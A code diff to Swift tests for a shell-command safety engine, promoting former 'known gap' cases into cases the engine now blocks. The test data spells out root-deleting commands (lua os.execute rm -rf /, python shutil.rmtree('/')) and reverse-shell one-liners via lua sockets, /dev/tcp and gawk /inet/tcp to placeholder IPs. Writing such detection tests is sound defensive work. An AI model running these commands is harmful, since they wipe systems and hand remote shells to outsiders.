@@ -33,14 +33,10 @@ struct VerdictInterpreterBypassTests {
             VerdictCase("python3 -m http.server", .review, "exec.module"),
             VerdictCase("python3 script.py", .review, RuleID.scriptFile),
             VerdictCase("python3", .review, "exec.interactive"),
+            VerdictCase("lua -e 'os.execute(\"rm -rf /\")'", .block, RuleID.rmRoot),
+            VerdictCase("python3 -c 'import shutil; shutil.rmtree(\"/\")'", .block),
         ],
         gaps: [
-            KnownEngineGap(
-                "lua -e 'os.execute(\"rm -rf /\")'", .block, RuleID.rmRoot, today: .review,
-                bug: "lua's `os.execute` is not among the calls whose string is judged as a command"),
-            KnownEngineGap(
-                "python3 -c 'import shutil; shutil.rmtree(\"/\")'", .block, today: .review,
-                bug: "deleting the root from interpreter code (`shutil.rmtree(\"/\")`) is only review"),
         ])
 
     static let reverseShells = BypassFamily(
@@ -70,12 +66,9 @@ struct VerdictInterpreterBypassTests {
                 "lua -e \"require('socket');require('os');t=socket.tcp();t:connect('10.0.0.1','4444');os.execute('/bin/sh -i <&3 >&3 2>&3');\"",
                 .block, RuleID.reverseShell),
             VerdictCase("python3 -c 'import os; os.system(\"bash -i >& /dev/tcp/1.2.3.4/4444 0>&1\")'", .block, RuleID.devTCP),
+            VerdictCase("awk 'BEGIN {s = \"/inet/tcp/0/10.0.0.1/4444\"; while(42) { do{ printf \"shell>\" |& s; s |& getline c; if(c){ while ((c |& getline) > 0) print $0 |& s; close(c); } } while(c != \"exit\") close(s); }}' /dev/null", .block),
         ],
         gaps: [
-            KnownEngineGap(
-                "awk 'BEGIN {s = \"/inet/tcp/0/10.0.0.1/4444\"; while(42) { do{ printf \"shell>\" |& s; s |& getline c; if(c){ while ((c |& getline) > 0) print $0 |& s; close(c); } } while(c != \"exit\") close(s); }}' /dev/null",
-                .block, today: .review,
-                bug: "gawk's `/inet/tcp/` special files are network connections: a reverse shell"),
         ],
         // The network family (nc, ncat, socat) is not in the catalog yet.
         atLeastReview: [
